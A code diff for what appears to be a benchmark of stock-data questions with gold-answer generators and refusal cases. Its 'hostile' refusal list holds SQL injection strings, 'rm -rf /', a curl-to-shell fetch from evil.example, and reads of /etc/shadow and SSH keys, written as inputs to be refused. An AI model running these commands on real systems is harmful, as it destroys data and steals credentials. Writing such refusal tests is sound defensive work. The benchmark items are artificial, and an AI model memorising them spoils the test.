+    ("INDA", "DBB", "2023-07-10", "2023-09-30", "Pearson correlation of INDA and DBB daily returns from the start of the data through September 2023"),
+]
+STREAKS = [
+    ("AAPL", "2017-01-01", "2017-11-10", True, "Longest run of consecutive up days for AAPL in 2017?"),
+    ("NFLX", "2016-01-01", "2016-12-31", False, "What was Netflix's longest losing streak (consecutive down closes) in 2016?"),
+    ("IBM", "2015-01-01", "2015-12-31", False, "ibm most consecutive down days in 2015"),
+    ("AMZN", "2015-01-01", "2015-12-31", True, "In 2015, what was Amazon's longest streak of higher closes?"),
+    ("KO", "2014-01-01", "2014-12-31", True, "KO longest winning streak during 2014 - how many days and when?"),
+    ("MSFT", "2016-01-01", "2016-12-31", True, "msft: longest stretch of back-to-back up days in 2016"),
+    ("DBB", "2024-01-01", "2024-12-31", False, "What was DBB's longest string of consecutive down days in 2024?"),
+]
 
 
-def R(kind, text):
-    QUESTIONS.append((kind, text, None))
+def minute_candle_dist_cov(A):
+    # ---------------- vwap-minute: 4 day VWAPs, 3 window VWAPs, 3 bar lists
+    A("vwap-minute", "What was FXY's VWAP on 2024-08-05?", g_vwap_day("FXY", "2024-08-05"))
+    A("vwap-minute", "dbb vwap for 4/7/2025", g_vwap_day("DBB", "2025-04-07"))
+    A("vwap-minute", "Volume-weighted average price of INDA on April 10th, 2025?", g_vwap_day("INDA", "2025-04-10"))
+    A("vwap-minute", "today's VWAP for FXY", g_vwap_day("FXY", TODAY))
+    A("vwap-minute", "FXY VWAP over the first 30 minutes of the regular session on 2024-08-05",
+      g_vwap_window("FXY", "2024-08-05", "09:30", "09:59"))
+    A("vwap-minute", "What was DBB's VWAP from 10:00 through 11:00 New York time on 2025-04-09, inclusive?",
+      g_vwap_window("DBB", "2025-04-09", "10:00", "11:00"))
+    A("vwap-minute", "INDA vwap between 1pm and 2pm ET on 2025-05-12",
+      g_vwap_window("INDA", "2025-05-12", "13:00", "13:59", "14:00"))
+    A("vwap-minute", "Show FXY's one-minute closes from 09:30 to 09:34 today, inclusive.",
+      g_bars("FXY", TODAY, "09:30", "09:34", ["close"]), "set", True)
+    A("vwap-minute", "DBB minute bars (open high low close volume) 15:55 through 15:59 on 6/30/2025",
+      g_bars("DBB", "2025-06-30", "15:55", "15:59", ["open", "high", "low", "close", "volume"]), "set", True)
+    A("vwap-minute", "per-minute volume for INDA from 10:00 to 10:04 a.m. (both included) on 2 June 2025",
+      g_bars("INDA", "2025-06-02", "10:00", "10:04", ["volume"]), "set", True)
+
+    # ---------------- period-candle
+    A("period-candle", "monthly candle for AMD, Feb 2016", g_candle("AMD", "2016-02-01", "2016-02-29"))
+    A("period-candle", "Give me Apple's open, high, low, close and volume for Q3 2016 as a single bar.", g_candle("AAPL", "2016-07-01", "2016-09-30"))
+    w = week_of("2017-03-15")
+    A("period-candle", "Coca-Cola weekly OHLCV for the week of March 15, 2017", g_candle("KO", w[0], w[1]))
+    A("period-candle", "TSLA 2013 yearly candle (OHLC + volume)", g_candle("TSLA", "2013-01-01", "2013-12-31"))
+    A("period-candle", "What did Netflix's first-half 2017 candle look like - open, high, low, close, total volume?", g_candle("NFLX", "2017-01-01", "2017-06-30"))
+    w = week_of("2016-11-09")
+    A("period-candle", "jpm ohlcv for the week of 11/9/2016", g_candle("JPM", w[0], w[1]))
+    w = week_of("2024-08-05")
+    A("period-candle", "FXY weekly bar for the week of Aug 5 2024: open, high, low, close, volume", g_candle("FXY", w[0], w[1]))
+    A("period-candle", "DBB's candle for last month", g_candle("DBB", "2025-06-01", "2025-06-30"))
+
+    # ---------------- distance-from-high
+    A("distance-from-high", "How far below its all-time closing high was NFLX on 2012-09-28?", g_dist("NFLX", "2012-09-28"))
+    A("distance-from-high", "AAPL's distance from its record close as of April 19th, 2013", g_dist("AAPL", "2013-04-19"))
+    A("distance-from-high", "On 3/9/2009 how far was Intel's close from its all-time high close?", g_dist("INTC", "2009-03-09"))
+    A("distance-from-high", "msft % off its all time high (closing basis) on 2016-02-11", g_dist("MSFT", "2016-02-11"))
+    A("distance-from-high", "How far was IBM's close on 10 November 2017 below its highest close ever?", g_dist("IBM", "2017-11-10"))
+    A("distance-from-high", "Where did Amazon close on 2014-12-31 relative to its all-time closing high, in %?", g_dist("AMZN", "2014-12-31"))
+    A("distance-from-high", "How far is DBB below its all-time high close right now?", g_dist("DBB", TODAY))
+    A("distance-from-high", "fxy drawdown from all-time closing high as of 2024-07-10", g_dist("FXY", "2024-07-10"))
+
+    # ---------------- coverage
+    A("coverage", "When does the TSLA data start?", [[BARS["TSLA"][0][0]]])
+    A("coverage", "what's the first date we have for Facebook", [[BARS["FB"][0][0]]])
+    A("coverage", "What date range does the IBM history cover?", [[BARS["IBM"][0][0], BARS["IBM"][-1][0]]])
+    A("coverage", "Which stocks are in the database?", [[s] for s in sorted(ALL)], "set", True)
+    A("coverage", "how many trading days of NFLX data are there", [[len(BARS["NFLX"])]])
+    early = [[s] for s in sorted(ALL) if BARS[s][0][0] < "1980-01-01"]
+    check(len(early) >= 2, "coverage: too few early tickers")
+    A("coverage", "Which tickers have data going back before 1980?", early, "set", True)
+    A("coverage", "Earliest date available for AMD?", [[BARS["AMD"][0][0]]])
+    A("coverage", "What is the last date in the GOOGL data?", [[BARS["GOOGL"][-1][0]]])
+    A("coverage", "What period does the INDA data cover?", [[BARS["INDA"][0][0], BARS["INDA"][-1][0]]])
+    A("coverage", "How many trading days of FXY data do you have?", [[len(BARS["FXY"])]])
 
 
-def period_rets(s, d1, d2):
-    return [r for _, r in window_returns(s, d1, d2)]
+def refusals():
+    R = refuse
+    # out-of-scope
+    R("out-of-scope", "What is Apple's P/E ratio right now?")
+    R("out-of-scope", "KO dividend yield in 2016?")
+    R("out-of-scope", "market cap of nvidia on 2017-11-10")
+    R("out-of-scope", "Where will TSLA trade a year from now? Give me a price target.")
+    R("out-of-scope", "Why did Netflix drop on 2016-07-19 - what was the news?")
+    R("out-of-scope", "What's the expense ratio of INDA?")
+    R("out-of-scope", "implied volatility on FXY options expiring next month")
+    R("out-of-scope", "Microsoft EPS for fiscal Q1 2018?")
+    R("out-of-scope", "what's the twitter sentiment on AMD lately")
+    R("out-of-scope", "Should I buy DBB tomorrow? Forecast its close for next week.")
+    # unknown-symbol
+    R("unknown-symbol", "ORCL close on 2016-06-24")
+    R("unknown-symbol", "What was SPY's return today?")
+    R("unknown-symbol", "Berkshire Hathaway 52-week high as of 2017-03-31")
+    R("unknown-symbol", "show me the last 5 closes for XYZQ")
+    R("unknown-symbol", "Which gained more in 2016, Pepsi or Coca-Cola?")
+    R("unknown-symbol", "EWJ vwap on 2025-04-09")
+    R("unknown-symbol", "how many up days did GLD have last month")
+    R("unknown-symbol", "Walmart's average volume in Q1 2015?")
+    R("unknown-symbol", "ZZTOP daily return on 2015-08-24")
+    R("unknown-symbol", "Disney highest close of 2014 - which day?")
+    # hostile (3 wrapped around a real-looking question)
+    R("hostile", "'; DROP TABLE bars; --")
+    R("hostile", "SELECT * FROM prices; DELETE FROM prices WHERE 1=1;")
+    R("hostile", "rm -rf / --no-preserve-root")
+    R("hostile", "$(curl -s http://evil.example/x.sh | sh)")
+    R("hostile", "1 UNION SELECT username, password FROM users --")
+    R("hostile", "`cat /etc/shadow`")
+    R("hostile", "UPDATE daily SET close = 0; COMMIT;")
+    R("hostile", "What was AAPL's close on 2016-06-24'; DROP TABLE daily_bars; --")
+    R("hostile", "show FXY's last 5 closes && cat ~/.ssh/id_rsa")
+    R("hostile", "MSFT volume on 2017-01-03 UNION SELECT name, sql FROM sqlite_master")
+    # not-understood
+    R("not-understood", "hello?")
+    R("not-understood", "what's the weather in Boston tomorrow")
+    R("not-understood", "write me a short poem about candlesticks")
+    R("not-understood", "asdfghjkl")
+    R("not-understood", "tell me a joke")
+    R("not-understood", "Who won the 2016 World Series?")
+    R("not-understood", "translate 'good morning' into French")
+    R("not-understood", "how do I bake sourdough bread")
+    R("not-understood", "???")
+    R("not-understood", "can you recommend a good novel")
 
 
-# latest rows -------------------------------------------------------------------------------------
-A('latest-rows', "fxy last 5 closes", lambda: g_latest('FXY', 5, ['close']))
-A('latest-rows', "Can you pull DBB's three most recent daily bars? I need open, high, low, close and volume for each.",
-  lambda: g_latest('DBB', 3, ['open', 'high', 'low', 'close', 'volume']))
-A('latest-rows', "What's the most recent close we have on file for INDA, and what day was it?",
-  lambda: g_latest('INDA', 1, ['close']))
-A('latest-rows', "Give me the final four sessions of AMD in the database along with their volume.",
-  lambda: g_latest('AMD', 4, ['volume']))
-A('latest-rows', "INDA volume for each of its last 7 trading sessions pls",
-  lambda: g_latest('INDA', 7, ['volume']))
-A('latest-rows', "I'm looking at the tail end of the Coca-Cola history. What are the last ten closing prices in the data?",
-  lambda: g_latest('KO', 10, ['close']))
-A('latest-rows', "Microsoft: daily high and low for the last 6 sessions on record",
-  lambda: g_latest('MSFT', 6, ['high', 'low']))
-A('latest-rows', "Show me the latest 2 sessions for the Japanese yen ETF (FXY), closes only.",
-  lambda: g_latest('FXY', 2, ['close']))
-
-# day value ---------------------------------------------------------------------------------------
-A('day-value', "What did IBM close at on March 3rd, 2015?", lambda: g_day('IBM', '2015-03-03', 'close'))
-A('day-value', "KO volume 8/7/2017", lambda: g_day('KO', '2017-08-07', 'volume'))
-A('day-value', "tesla's high on 24/06/2016?", lambda: g_day('TSLA', '2016-06-24', 'high'))
-A('day-value', "Where did FXY open on Nov 8 2024?", lambda: g_day('FXY', '2024-11-08', 'open'))
-A('day-value', "DBB low, January 17 2025", lambda: g_day('DBB', '2025-01-17', 'low'))
-A('day-value', "JPMorgan's opening price on 17 February 2009, please.", lambda: g_day('JPM', '2009-02-17', 'open'))
-A('day-value', "How wide was Nvidia's trading range (high minus low) on 2016-11-11?",
-  lambda: g_day('NVDA', '2016-11-11', 'range'))
-A('day-value', "what was the INDA closing price on the 5th of March 2025", lambda: g_day('INDA', '2025-03-05', 'close'))
-
-# date-range rows ---------------------------------------------------------------------------------
-A('date-range-rows', "AAPL closes 2014-06-02 through 2014-06-06", lambda: g_rows('AAPL', '2014-06-02', '2014-06-06', ['close']))
-A('date-range-rows', "List Microsoft's daily volume for the week of September 16, 2013.",
-  lambda: g_rows('MSFT', *week_of('2013-09-16'), ['volume']))
-A('date-range-rows', "DBB closing prices from Dec 23 to Dec 31, 2024, inclusive",
-  lambda: g_rows('DBB', '2024-12-23', '2024-12-31', ['close']))
-A('date-range-rows', "What has DBB's daily volume been so far this month?", lambda: g_rows('DBB', *THIS_MONTH, ['volume']))
-A('date-range-rows', "Need GOOGL open/high/low/close for Aug 1-4 2017 (inclusive), one row per day",
-  lambda: g_rows('GOOGL', '2017-08-01', '2017-08-04', ['open', 'high', 'low', 'close']))
-A('date-range-rows', "For INDA, give the close of every session from Feb 26 through March 3, 2025.",
-  lambda: g_rows('INDA', '2025-02-26', '2025-03-03', ['close']))
-A('date-range-rows', "amzn closing prices 12/27/2016 thru 12/30/2016",
-  lambda: g_rows('AMZN', '2016-12-27', '2016-12-30', ['close']))
-A('date-range-rows', "What were Intel's opening prices on each trading day from March 6 to March 10, 2000, both days included?",
-  lambda: g_rows('INTC', '2000-03-06', '2000-03-10', ['open']))
-
-# window aggregate --------------------------------------------------------------------------------
-A('window-aggregate', "Average KO close in Q3 2012?", lambda: g_agg('KO', *quarter(2012, 3), 'close', 'mean'))
-A('window-aggregate', "total FXY volume traded in march 2024", lambda: g_agg('FXY', *month(2024, 3), 'volume', 'sum'))
-A('window-aggregate', "What's the highest price Amazon reached during the first half of 2014?",
-  lambda: g_agg('AMZN', *half(2014, 1), 'high', 'max'))
-A('window-aggregate', "Intels lowest low in 2008", lambda: g_agg('INTC', *year(2008), 'low', 'min'))
-A('window-aggregate', "Could you work out the mean daily volume for AMD over January 2016?",
-  lambda: g_agg('AMD', *month(2016, 1), 'volume', 'mean'))
-A('window-aggregate', "INDA's average closing price in April 2025", lambda: g_agg('INDA', *month(2025, 4), 'close', 'mean'))
-A('window-aggregate', "Sum up Nvidia's traded shares for Oct 2–6, 2017.", lambda: g_agg('NVDA', '2017-10-02', '2017-10-06', 'volume', 'sum'))
-A('window-aggregate', "For FXY last month, what was the average daily range (high - low)?",
-  lambda: g_agg('FXY', *LAST_MONTH, 'range', 'mean'))
-A('window-aggregate', "IBM average close, calendar year 2005", lambda: g_agg('IBM', *year(2005), 'close', 'mean'))
-
-# extreme day -------------------------------------------------------------------------------------
-A('extreme-day', "On which day in 2015 did Netflix trade the most shares?", lambda: g_extreme('NFLX', *year(2015), 'volume', True))
-A('extreme-day', "When did DBB post its lowest close of 2024, and what was it?", lambda: g_extreme('DBB', *year(2024), 'close', False))
-A('extreme-day', "Which session in Q1 2012 gave AAPL its highest intraday high?", lambda: g_extreme('AAPL', *quarter(2012, 1), 'high', True))
-A('extreme-day', "TSLA - day with the widest high-low range in September 2017?", lambda: g_extreme('TSLA', *month(2017, 9), 'range', True))
-A('extreme-day', "busiest INDA day by volume in march 2025", lambda: g_extreme('INDA', *month(2025, 3), 'volume', True))
-A('extreme-day', "JPM's lowest close during 2009 - which date was that?", lambda: g_extreme('JPM', *year(2009), 'close', False))
-A('extreme-day', "When in 2015 did IBM hit its peak intraday high, and how high did it go?", lambda: g_extreme('IBM', *year(2015), 'high', True))
-A('extreme-day', "What's FXY's highest close this year, and on which day did it happen?", lambda: g_extreme('FXY', *THIS_YEAR, 'close', True))
-
-# 52-week -----------------------------------------------------------------------------------------
-A('52-week', "52-week high for MSFT as of 2017-06-30", lambda: g_52('MSFT', '2017-06-30', 'high'))
-A('52-week', "fxy 52wk low as of today?", lambda: g_52('FXY', END, 'low'))
-A('52-week', "What was DBB's 52-week range (low and high) on October 15th, 2024?", lambda: g_52('DBB', '2024-10-15', 'range'))
-A('52-week', "GOOGL 52 week high on Jan 5 2016", lambda: g_52('GOOGL', '2016-01-05', 'high'))
-A('52-week', "Where was AMD's 52-week low sitting on February 8, 2016?", lambda: g_52('AMD', '2016-02-08', 'low'))
-A('52-week', "Coca-Cola 52-week range as of 30/12/2011", lambda: g_52('KO', '2011-12-30', 'range'))
-A('52-week', "As of 2014-09-16, what was Netflix's 52-week high?", lambda: g_52('NFLX', '2014-09-16', 'high'))
-A('52-week', "I need Apple's 52 week low on 4/19/2013.", lambda: g_52('AAPL', '2013-04-19', 'low'))
-
-# change between ----------------------------------------------------------------------------------
-A('change-between', "How much did AMZN change from the 2015-01-02 close to the 2015-12-31 close?",
-  lambda: g_change('AMZN', '2015-01-02', '2015-12-31'))
-A('change-between', "% change in DBB between the 2024-03-01 close and the 2024-09-03 close",
-  lambda: g_change('DBB', '2024-03-01', '2024-09-03'))
-A('change-between', "IBM performance from the close on July 1, 2013 to the close on January 2, 2014?",
-  lambda: g_change('IBM', '2013-07-01', '2014-01-02'))
-A('change-between', "What was Intel's price change between Jan 1 2011 and Dec 31 2011?",
-  lambda: g_change('INTC', '2011-01-01', '2011-12-31', sessions=False))
-A('change-between', "how much is DBB up or down year to date, measured from the 2024 year-end close to the latest close",
-  lambda: g_change('DBB', '2024-12-31', END))
-A('change-between', "FXY's move since the April 1, 2025 close — up to the most recent close", lambda: g_change('FXY', '2025-04-01', END))
-A('change-between', "nvda percent change, close of 3/1/2016 to close of 2/28/2017", lambda: g_change('NVDA', '2016-03-01', '2017-02-28'))
-A('change-between', "By how much did Facebook move between its 2013-06-03 close and its 2014-06-02 close?",
-  lambda: g_change('FB', '2013-06-03', '2014-06-02'))
-
-# daily return or gap -----------------------------------------------------------------------------
-A('daily-return-or-gap', "AAPL daily return on 2014-04-24", lambda: g_ret('AAPL', '2014-04-24', 'return'))
-A('daily-return-or-gap', "What was FB's opening gap on July 25, 2013?", lambda: g_ret('FB', '2013-07-25', 'gap'))
-A('daily-return-or-gap', "DBB return on 8/15/2024?", lambda: g_ret('DBB', '2024-08-15', 'return'))
-A('daily-return-or-gap', "How big was the FXY gap at the open on 2024-07-12?", lambda: g_ret('FXY', '2024-07-12', 'gap'))
-A('daily-return-or-gap', "INDA's daily return, June 3rd 2025", lambda: g_ret('INDA', '2025-06-03', 'return'))
-A('daily-return-or-gap', "By how much did Microsoft gap on Oct 21st, 2016?", lambda: g_ret('MSFT', '2016-10-21', 'gap'))
-A('daily-return-or-gap', "ko daily % change 2/18/2014", lambda: g_ret('KO', '2014-02-18', 'return'))
-A('daily-return-or-gap', "How did JPM do on 9 November 2016, close to close?", lambda: g_ret('JPM', '2016-11-09', 'return'))
-A('daily-return-or-gap', "Tesla opening gap 2017-08-03 vs the prior close", lambda: g_ret('TSLA', '2017-08-03', 'gap'))
-
-# biggest move day --------------------------------------------------------------------------------
-A('biggest-move-day', "NFLX biggest one-day drop in 2016?", lambda: g_biggest('NFLX', *year(2016), 'return', 'down'))
-A('biggest-move-day', "What was AMD's largest single-day percentage gain in 2017, and when?", lambda: g_biggest('AMD', *year(2017), 'return', 'up'))
-A('biggest-move-day', "Biggest daily move in either direction for DBB during 2024", lambda: g_biggest('DBB', *year(2024), 'return', 'abs'))
-A('biggest-move-day', "worst day for FXY in Q3 2024 (close to close)", lambda: g_biggest('FXY', *quarter(2024, 3), 'return', 'down'))
-A('biggest-move-day', "Which day in 2015 had GOOGL's biggest gap up?", lambda: g_biggest('GOOGL', *year(2015), 'gap', 'up'))
-A('biggest-move-day', "INDA's steepest one-day decline in April 2025?", lambda: g_biggest('INDA', *month(2025, 4), 'return', 'down'))
-A('biggest-move-day', "IBM: largest one-day % loss of 2008", lambda: g_biggest('IBM', *year(2008), 'return', 'down'))
-A('biggest-move-day', "tsla best day of 2013 by daily return", lambda: g_biggest('TSLA', *year(2013), 'return', 'up'))
-
-# cross-sectional ranking -------------------------------------------------------------------------
-A('cross-sectional-ranking', "Which 3 stocks had the best daily return on 2015-08-26?", lambda: g_xs('2015-08-26', 'return', 3, True, expect=13))
-A('cross-sectional-ranking', "top 3 tickers by volume on 9/19/2014", lambda: g_xs('2014-09-19', 'volume', 3, True, expect=13))
-A('cross-sectional-ranking', "Which stock had the highest closing price on March 1st, 2017?", lambda: g_xs('2017-03-01', 'close', 1, True, singular=True, expect=13))
-A('cross-sectional-ranking', "Bottom four names by daily return on October 19, 2012, worst first.", lambda: g_xs('2012-10-19', 'return', 4, False, expect=13))
-A('cross-sectional-ranking', "On 2017-07-28, which three stocks had the widest trading range (high minus low)?", lambda: g_xs('2017-07-28', 'range', 3, True, expect=13))
-A('cross-sectional-ranking', "Rank the ETFs by their daily return on 2025-04-09, best to worst.", lambda: g_xs('2025-04-09', 'return', 3, True, expect=3))
-A('cross-sectional-ranking', "Which ETF had the best daily return on 5 Aug 2024?", lambda: g_xs('2024-08-05', 'return', 1, True, singular=True, expect=2))
-A('cross-sectional-ranking', "Two biggest gap-downs at the open on 11/9/2016?", lambda: g_xs('2016-11-09', 'gap', 2, False, expect=13))
-A('cross-sectional-ranking', "rank INDA, FXY and DBB by volume on 2025-03-14, highest first", lambda: g_xs('2025-03-14', 'volume', 3, True, expect=3))
-
-# gainers / losers --------------------------------------------------------------------------------
-A('gainers-losers', "Top 3 gainers from the 2016-06-30 close to the 2017-06-30 close?", lambda: g_gainers('2016-06-30', '2017-06-30', 3, True, expect=13))
-A('gainers-losers', "Worst two performers between the Sept 12, 2008 close and the Oct 10, 2008 close", lambda: g_gainers('2008-09-12', '2008-10-10', 2, False, expect=11))
-A('gainers-losers', "Which stock gained the most from the close on 2013-01-02 to the close on 2013-12-31?", lambda: g_gainers('2013-01-02', '2013-12-31', 1, True, singular=True, expect=13))
-A('gainers-losers', "which ETF did best from the 2025-03-03 close to the 2025-06-02 close?", lambda: g_gainers('2025-03-03', '2025-06-02', 1, True, singular=True, expect=3))
-A('gainers-losers', "Biggest loser, 2015-06-30 close to 2015-09-30 close?", lambda: g_gainers('2015-06-30', '2015-09-30', 1, False, singular=True, expect=13))
-A('gainers-losers', "Rank every stock by its return from the 12/30/2011 close to the 12/31/2012 close, best first.", lambda: g_gainers('2011-12-30', '2012-12-31', 12, True, expect=12))
-A('gainers-losers', "ETFs ranked worst first by return between the 2024-07-01 close and the 2024-12-31 close", lambda: g_gainers('2024-07-01', '2024-12-31', 2, False, expect=2))
-A('gainers-losers', "The dot-com bust: which 3 stocks fell hardest from the 2000-03-10 close to the 2001-03-09 close?", lambda: g_gainers('2000-03-10', '2001-03-09', 3, False, expect=9))
-
-# named comparison --------------------------------------------------------------------------------
-A('named-comparison', "Which traded more shares on 2015-07-17, GOOGL or AMZN?",
-  lambda: g_pair([(s, value(s, '2015-07-17', 'volume')) for s in ('GOOGL', 'AMZN')]))
-A('named-comparison', "Compare KO and JPM closing prices on May 6, 2010.",
-  lambda: g_pair([(s, value(s, '2010-05-06', 'close')) for s in ('KO', 'JPM')], winner_first=False))
-A('named-comparison', "FXY vs DBB volatility in 2024",
-  lambda: g_pair([(s, g_vol(s, *year(2024))) for s in ('FXY', 'DBB')], winner_first=False))
-A('named-comparison', "Who had the higher average daily volume in May 2025, INDA or FXY?",
-  lambda: g_pair([(s, agg(s, *month(2025, 5), 'volume', 'mean')) for s in ('INDA', 'FXY')]))
-A('named-comparison', "INTC or AMD: which returned more from the 2016-12-30 close to the 2017-11-10 close?",
-  lambda: g_pair([(s, exact_change(s, '2016-12-30', '2017-11-10')) for s in ('INTC', 'AMD')]))
-A('named-comparison', "nvda vs nflx daily return on 2017-07-18",
-  lambda: g_pair([(s, ret(s, '2017-07-18')) for s in ('NVDA', 'NFLX')], winner_first=False))
-A('named-comparison', "Did Apple or Google (GOOGL) have the wider high-low range on April 22, 2016?",
-  lambda: g_pair([(s, value(s, '2016-04-22', 'range')) for s in ('AAPL', 'GOOGL')]))
-A('named-comparison', "compare AMZN and NFLX percentage change from the 2014-04-08 close to the 2014-05-08 close",
-  lambda: g_pair([(s, exact_change(s, '2014-04-08', '2014-05-08')) for s in ('AMZN', 'NFLX')], winner_first=False))
-
-# grouped by period -------------------------------------------------------------------------------
-A('grouped-by-period', "monthly average close for KO in 2016", lambda: g_grouped('KO', [month(2016, m) for m in range(1, 13)], 'close', 'mean'))
-A('grouped-by-period', "JPM month-end closes for each month of Q1 2009", lambda: g_grouped('JPM', [month(2009, m) for m in (1, 2, 3)], 'close', 'last'))
-A('grouped-by-period', "What was Netflix's high for each year from 2012 through 2016?", lambda: g_grouped('NFLX', [year(y) for y in range(2012, 2017)], 'high', 'max'))
-A('grouped-by-period', "Total DBB volume per quarter in 2024", lambda: g_grouped('DBB', [quarter(2024, q) for q in (1, 2, 3, 4)], 'volume', 'sum'))
-A('grouped-by-period', "INDA weekly closing prices for the weeks of April 7, 14, 21 and 28, 2025",
-  lambda: g_grouped('INDA', [week_of(d) for d in ('2025-04-07', '2025-04-14', '2025-04-21', '2025-04-28')], 'close', 'last'))
-A('grouped-by-period', "Break down Tesla's average daily volume by month for July through December 2015.",
-  lambda: g_grouped('TSLA', [month(2015, m) for m in range(7, 13)], 'volume', 'mean'))
-A('grouped-by-period', "IBM's year-end closing price for each year 2010 to 2014", lambda: g_grouped('IBM', [year(y) for y in range(2010, 2015)], 'close', 'last'))
-A('grouped-by-period', "dbb avg close by month, this year", lambda: g_grouped('DBB', [month(2025, m) for m in range(1, 7)] + [THIS_MONTH], 'close', 'mean'))
-
-# period over period ------------------------------------------------------------------------------
-A('period-over-period', "How did FXY's average close in June 2025 compare with May 2025?", lambda: g_pop('FXY', month(2025, 6), month(2025, 5), 'close'))
-A('period-over-period', "MSFT avg daily volume Q2 2017 vs Q1 2017", lambda: g_pop('MSFT', quarter(2017, 2), quarter(2017, 1), 'volume'))
-A('period-over-period', "DBB average close last month versus the month before: how much higher or lower?", lambda: g_pop('DBB', LAST_MONTH, month(2025, 5), 'close'))
-A('period-over-period', "How did Apple's average closing price in 2016 compare with 2015, as a percent change?", lambda: g_pop('AAPL', year(2016), year(2015), 'close'))
-A('period-over-period', "INDA average daily volume: April 2025 compared to March 2025", lambda: g_pop('INDA', month(2025, 4), month(2025, 3), 'volume'))
-A('period-over-period', "nvidia mean close in H1 2017 vs H2 2016", lambda: g_pop('NVDA', half(2017, 1), half(2016, 2), 'close'))
-A('period-over-period', "Coca-Cola's average daily volume in October 2014 relative to September 2014?", lambda: g_pop('KO', month(2014, 10), month(2014, 9), 'volume'))
-A('period-over-period', "JPM: average close in 2013 versus 2012, and the % difference", lambda: g_pop('JPM', year(2013), year(2012), 'close'))
-
-# moving averages ---------------------------------------------------------------------------------
-A('moving-average', "AAPL 50-day moving averge on 2015-05-29", lambda: g_ma('AAPL', '2015-05-29', 50))
-A('moving-average', "What's the 20-day SMA for FXY today?", lambda: g_ma('FXY', END, 20))
-A('moving-average', "Google's 10-day moving average as of Feb 14, 2014", lambda: g_ma('GOOGL', '2014-02-14', 10))
-A('moving-average', "200DMA of JPM on 11/30/2016", lambda: g_ma('JPM', '2016-11-30', 200))
-A('moving-average', "Where was INDA's 20-day moving average on May 30th 2025?", lambda: g_ma('INDA', '2025-05-30', 20))
-A('moving-average', "When was Microsoft's most recent golden cross before June 1, 2016?", lambda: g_cross('MSFT', 50, 200, 'above', before='2016-06-01', pick='last'))
-A('moving-average', "On what date did JPM have a death cross in 2007?", lambda: g_cross('JPM', 50, 200, 'below', after='2006-12-31', before='2008-01-01', only=True))
-A('moving-average', "Most recent time DBB's 20-day MA crossed below its 50-day MA?", lambda: g_cross('DBB', 20, 50, 'below', pick='last'))
-A('moving-average', "When did FXY's close first cross above its 50-day moving average in 2024?", lambda: g_cross('FXY', 50, None, 'above', after='2023-12-31', before='2025-01-01'))
-A('moving-average', "tsla first golden cross of 2016?", lambda: g_cross('TSLA', 50, 200, 'above', after='2015-12-31', before='2017-01-01'))
-
-# threshold count ---------------------------------------------------------------------------------
-A('threshold-count', "How many days in 2016 did AMD close above $10?", lambda: g_count('AMD', *year(2016), 'close', '>', 10))
-A('threshold-count', "Number of sessions in 2024 where FXY fell more than 1%", lambda: g_count('FXY', *year(2024), 'return', '<', -0.01))
-A('threshold-count', "count the days in Q1 2025 when DBB volume exceeded 100,000 shares", lambda: g_count('DBB', *quarter(2025, 1), 'volume', '>', 100000))
-A('threshold-count', "In 2008, how many times did JPM move more than 5% either way in a day?", lambda: g_count('JPM', *year(2008), 'return', 'abs>', 0.05))
-A('threshold-count', "how many up days did coke have in march 2015", lambda: g_count('KO', *month(2015, 3), 'return', '>', 0))
-A('threshold-count', "INDA: number of sessions in April 2025 that closed under $52", lambda: g_count('INDA', *month(2025, 4), 'close', '<', 52))
-A('threshold-count', "how many times did netflix gap up more than 3% during 2015", lambda: g_count('NFLX', *year(2015), 'gap', '>', 0.03))
-A('threshold-count', "Tesla trading days in 2017 with a high-low range over $10?", lambda: g_count('TSLA', *year(2017), 'range', '>', 10))
-
-# cross-stock count -------------------------------------------------------------------------------
-A('cross-stock-count', "How many of the stocks closed up on 2016-11-09?", lambda: g_xcount('2016-11-09', 'return', '>', 0, expect=13))
-A('cross-stock-count', "On August 26, 2015 how many stocks rose more than 6%?", lambda: g_xcount('2015-08-26', 'return', '>', 0.06, expect=13))
-A('cross-stock-count', "how many tickers traded over 40 million shares on 1/28/2014", lambda: g_xcount('2014-01-28', 'volume', '>', 40e6, expect=13))
-A('cross-stock-count', "Count the stocks that closed above $100 on June 1st, 2017.", lambda: g_xcount('2017-06-01', 'close', '>', 100, expect=13))
-A('cross-stock-count', "How many stocks gapped down by more than 10% at the open on 2015-08-24?", lambda: g_xcount('2015-08-24', 'gap', '<', -0.10, expect=13))
-A('cross-stock-count', "How many of the ETFs closed lower on 2025-05-12?", lambda: g_xcount('2025-05-12', 'return', '<', 0, expect=3))
-A('cross-stock-count', "How many stocks ended higher from the 2015-12-31 close to the 2016-12-30 close?",
-  lambda: g_xcount_over('2015-12-31', '2016-12-30', expect=13))
-A('cross-stock-count', "On 23 March 2009, how many stocks were up more than 5% on the day?", lambda: g_xcount('2009-03-23', 'return', '>', 0.05, expect=11))
-
-# volatility --------------------------------------------------------------------------------------
-A('volatility', "Apple's volatilty in 2014 (std dev of daily returns)", lambda: first(g_vol('AAPL', *year(2014))))
-A('volatility', "amzn daily return standard deviation, second half of 2016", lambda: first(g_vol('AMZN', *half(2016, 2))))
-A('volatility', "How volatile was DBB from September 2024 through January 2025?", lambda: first(g_vol('DBB', month(2024, 9)[0], month(2025, 1)[1])))
-A('volatility', "What was Netflix's daily volatility across 2012?", lambda: first(g_vol('NFLX', *year(2012))))
-A('volatility', "INDA volatility since March 24, 2025", lambda: first(g_vol('INDA', '2025-03-24', BARS['INDA'][-1][0])))
-A('volatility', "Standard deviation of KO's daily returns in 2010?", lambda: first(g_vol('KO', *year(2010))))
-A('volatility', "TSLA volatility Jul-Dec 2016", lambda: first(g_vol('TSLA', *half(2016, 2))))
-A('volatility', "what's FXY's volatility this year", lambda: first(g_vol('FXY', *THIS_YEAR)))
-
-# correlation -------------------------------------------------------------------------------------
-A('correlation', "Correlation between AAPL and MSFT daily returns in the second half of 2015?", lambda: g_corr('AAPL', 'MSFT', *half(2015, 2)))
-A('correlation', "fxy & dbb correlation, march-may 2024", lambda: g_corr('FXY', 'DBB', month(2024, 3)[0], month(2024, 5)[1]))
-A('correlation', "How correlated were INDA and DBB daily returns from March 4 through June 20, 2025?", lambda: g_corr('INDA', 'DBB', '2025-03-04', '2025-06-20'))
-A('correlation', "During 2008, what was the correlation of JPM's daily returns with KO's?", lambda: g_corr('JPM', 'KO', *year(2008)))
-A('correlation', "GOOGL vs FB return correlation for 2014", lambda: g_corr('GOOGL', 'FB', *year(2014)))
-A('correlation', "I'd like the Pearson correlation of AMD and NVDA daily returns over 2015.", lambda: g_corr('AMD', 'NVDA', *year(2015)))
-A('correlation', "INTC/IBM daily-return correlation, calendar 2007", lambda: g_corr('INTC', 'IBM', *year(2007)))
